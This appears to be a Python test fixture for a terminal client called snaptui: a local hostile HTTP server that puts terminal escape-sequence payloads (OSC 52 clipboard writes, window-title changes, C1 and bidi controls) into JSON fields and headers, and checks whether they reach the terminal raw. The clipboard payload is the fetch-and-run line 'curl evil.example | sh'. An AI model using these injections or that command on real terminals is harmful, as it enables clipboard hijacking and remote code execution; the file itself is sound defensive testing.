"""A hostile HTTP server on 127.0.0.1 for tests: it answers every request with bytes the
test chose (status line, raw header bytes, body), never checks a signature, and can send
its headers one byte at a time.

Raw bytes on the wire, not http.server's send_header: it refuses exactly the header values
these tests need to send (control characters, non-Latin-1 text)."""

from __future__ import annotations

import base64
import json
import socket
import socketserver
import threading
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

# --- payloads -------------------------------------------------------------------------

# What a server would like to put on the user's clipboard: a command one paste from running.
CLIP_TEXT = "curl evil.example | sh # PWNED-CLIP"
CLIP_B64 = base64.b64encode(CLIP_TEXT.encode()).decode()
TITLE_TEXT = "pwned-title"

# One piece per trick; each carries a marker that shows whether it reached a terminal raw.
PAYLOADS = {
    "osc52-bel": f"\x1b]52;c;{CLIP_B64}\x07",
    "osc52-st": f"\x1b]52;c;{CLIP_B64}\x1b\\",
    "osc2-bel": f"\x1b]2;{TITLE_TEXT}\x07",
    "osc2-st": f"\x1b]2;{TITLE_TEXT}\x1b\\",
    "csi-clear": "\x1b[2J\x1b[H",
    "csi-sgr": "\x1b[31mHOSTILE-RED\x1b[0m",
    "c1-csi": "\u009b2J\u009b31mHOSTILE-C1",
    "c1-osc": f"\u009d2;{TITLE_TEXT}\u009c",
    "bidi": "\u202eHOSTILE-RLO\u2066HOSTILE-LRI\u2069",
}
HOSTILE = "".join(PAYLOADS.values())

# Sequences whose appearance in the bytes a program wrote means server text reached the
# terminal as control, not as data. (The program's own codes look different: its OSC 52
# carries the base64 of what the user copied, and it never writes C1 or bidi controls.)
RAW_MARKERS = {
    "OSC 52 with the server's payload": f"\x1b]52;c;{CLIP_B64}",
    "OSC 2 (window title)": f"\x1b]2;{TITLE_TEXT}",
    "C1 OSC (window title)": f"\u009d2;{TITLE_TEXT}",
    "the server's SGR": "\x1b[31mHOSTILE-RED",
    "C1 CSI": "\u009b",
    "C1 OSC": "\u009d",
    "C1 ST": "\u009c",
    "raw 8-bit CSI byte": "\udc9b",
    "raw 8-bit OSC byte": "\udc9d",
    "U+202E (right-to-left override)": "\u202e",
    "U+2066 (left-to-right isolate)": "\u2066",
}


def raw_controls_in(written: bytes) -> list[str]:
    """Which server control sequences appear raw in bytes written to a terminal."""
    text = written.decode("utf-8", "surrogateescape")
    return [name for name, marker in RAW_MARKERS.items() if marker in text]


def hostile_task(text: str = HOSTILE) -> dict[str, object]:
    """A SnapshotTask with `text` in every string field (and in names of keys it adds)."""
    return {
        "StartTime": 1795510800000,
        "EndTime": 0,
        "Status": 2,
        "StopReason": "Meteor" + text,  # also an unknown enum value
        "MaxIdleTime": 180,
        "TargetStreams": {
            "StreamList": [
                {"Index": 0, "UserId": "user" + text, "StreamType": 0},
                {"Index": 1, "UserId": text, "StreamType": 9},
            ]
        },
        "ImageConfig": {"Format": 0, "Width": 640, "Height": 360, "Interval": 5},
        "StorageConfig": {
            "Type": 0,
            "TosConfig": {"AccountId": "acct" + text, "Region": 0, "Bucket": "bucket" + text},
            "VodConfig": {"AccountId": text, "Region": 0, "Space": "space" + text},
            "CustomConfig": {"Vendor": 0, "Region": 0, "Bucket": "custom" + text},
            "VeImageXConfig": {"AccountId": text, "Region": 0, "ServiceId": "svc" + text},
        },
        "Extra" + text: text,
    }


def metadata(text: str = HOSTILE, error: tuple[str, str] | None = None) -> dict[str, object]:
    meta: dict[str, object] = {
        "RequestId": "req" + text,
        "Action": "GetSnapshotTask" + text,
        "Version": "2023-11-01" + text,
        "Service": "rtc" + text,
        "Region": "cn-north-1" + text,
    }
    if error is not None:
        meta["Error"] = {"Code": error[0], "CodeN": 10001, "Message": error[1]}
    return meta


def task_body(text: str = HOSTILE) -> bytes:
    data = {"ResponseMetadata": metadata(text), "Result": {"SnapshotTask": hostile_task(text)}}
    return json.dumps(data, ensure_ascii=False).encode()


def error_body(code: str, message: str, text: str = HOSTILE) -> bytes:
    return json.dumps(
        {"ResponseMetadata": metadata(text, (code, message))}, ensure_ascii=False
    ).encode()


def hostile_headers(text: str = HOSTILE) -> list[tuple[str, bytes]]:
    """Every header a client might read or show, holding `text` as UTF-8 bytes, with the
    ESC and BEL bytes left out: an HTTP parser rejects those (a separate case), while
    C1 and bidi controls in UTF-8 are valid header bytes and reach the client."""
    value = text.replace("\x1b", "").replace("\x07", "").encode()
    return [
        ("Date", b"Tue, 24 Nov 2026 10:00:00 GMT" + value),
        ("Retry-After", b"1" + value),
        ("X-Request-Id", b"hdr" + value),
        ("X-Tt-Logid", value),
        ("Server", b"hostile" + value),
        ("Content-Type", b"application/json" + value),
    ]


# --- the server -----------------------------------------------------------------------


@dataclass
class Answer:
    status: int = 200
    body: bytes = b"{}"
    headers: list[tuple[str, bytes]] = field(default_factory=list)
    reason: bytes = b"OK"
    # Seconds between bytes of the status line and headers (0: all at once).
    header_byte_delay: float = 0.0
    content_length: bool = True


class HostileServer:
    """Serves `answer` (or `answer_for(request_head)`) to every request until stopped."""

    def __init__(self, answer: Answer | None = None) -> None:
        self.answer = answer or Answer()
        self.answer_for: Callable[[bytes], Answer] | None = None
        self.requests: list[bytes] = []
        self._stop = threading.Event()
        server = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                server._handle(self.request)

        class Server(socketserver.ThreadingTCPServer):
            daemon_threads = True
            allow_reuse_address = True

        self._server = Server(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    def __enter__(self) -> HostileServer:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._server.shutdown()
        self._server.server_close()

    def _handle(self, conn: socket.socket) -> None:
        conn.settimeout(30)
        head = b""
        try:
            while b"\r\n\r\n" not in head and len(head) < 65536:
                chunk = conn.recv(4096)
                if not chunk:
                    return
                head += chunk
        except OSError:
            return
        self.requests.append(head)
        answer = self.answer_for(head) if self.answer_for else self.answer
        lines = [b"HTTP/1.1 %d %s" % (answer.status, answer.reason)]
        lines += [name.encode() + b": " + value for name, value in answer.headers]
        if answer.content_length:
            lines.append(b"Content-Length: %d" % len(answer.body))
        lines.append(b"Connection: close")
        data = b"\r\n".join(lines) + b"\r\n\r\n"
        try:
            if answer.header_byte_delay:
                # Bounded: a test's server stops by itself after a minute.
                deadline = time.monotonic() + 60
                for byte in data:
                    if self._stop.is_set() or time.monotonic() > deadline:
                        return
                    conn.sendall(bytes([byte]))
                    time.sleep(answer.header_byte_delay)
            else:
                conn.sendall(data)
            conn.sendall(answer.body)
        except OSError:
            return
        finally:
            conn.close()


def settings_for(url: str) -> dict[str, object]:
    """settings.json content whose default profile talks to `url`."""
    return {"profiles": {"default": {"endpoint": url}}}


def hostile_env(url: str, config_dir: str, keys: Mapping[str, str]) -> dict[str, str]:
    """Environment for a snaptui that talks to `url`: settings in `config_dir`, keys."""
    import os
    from pathlib import Path

    Path(config_dir).mkdir(parents=True, exist_ok=True)
    (Path(config_dir) / "settings.json").write_text(json.dumps(settings_for(url)))
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("VOLC", "SNAPTUI", "PYTHON_KEYRING"))
    }
    env.update(keys)
    env["SNAPTUI_CONFIG_DIR"] = config_dir
    return env
